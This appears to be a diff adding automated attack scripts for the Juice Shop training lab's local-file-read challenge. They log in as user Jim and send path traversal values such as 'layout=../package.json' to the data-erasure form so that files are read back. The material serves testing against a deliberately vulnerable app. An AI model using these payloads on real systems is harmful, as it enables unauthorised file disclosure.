@@ -1,0 +1,33 @@
+import type { Answer, Attack, Tools } from '#lab'
+
+/** Sends the form as Jim, with his cookie and these fields. */
+async function send({ http, settings, expect }: Tools, fields: string): Promise<Answer> {
+  const login = await http.post('/rest/user/login', { email: `jim@${settings.domain}`, password: 'ncc-1701' })
+  expect(login.status === 200, `the login answered with ${login.status}`)
+  const { token } = login.json<{ authentication: { token: string } }>().authentication
+  const headers = { cookie: `token=${token}`, 'content-type': 'application/x-www-form-urlencoded' }
+  return http.post('/dataerasure', fields, { headers })
+}
+
+/** Has a file read out. */
+async function read(tools: Tools, fields: string, words: string): Promise<void> {
+  const answer = await send(tools, fields)
+  tools.expect(answer.status === 200, `the form was answered with ${answer.status}`)
+  tools.expect(
+    answer.text.endsWith('......') && answer.text.includes(words),
+    'there is no file in the answer',
+  )
+}
+
+export const attacks: Attack[] = [
+  {
+    challenge: 'lfrChallenge',
+    name: 'have package.json put around the page',
+    run: (tools) => read(tools, 'layout=../package.json', '"name": "juice-shop"'),
+  },
+  {
+    challenge: 'lfrChallenge',
+    name: 'have the source of another page read out',
+    run: (tools) => read(tools, `email=jim@${tools.settings.domain}&layout=dataErasureForm`, '<h1>'),
+  },
+]
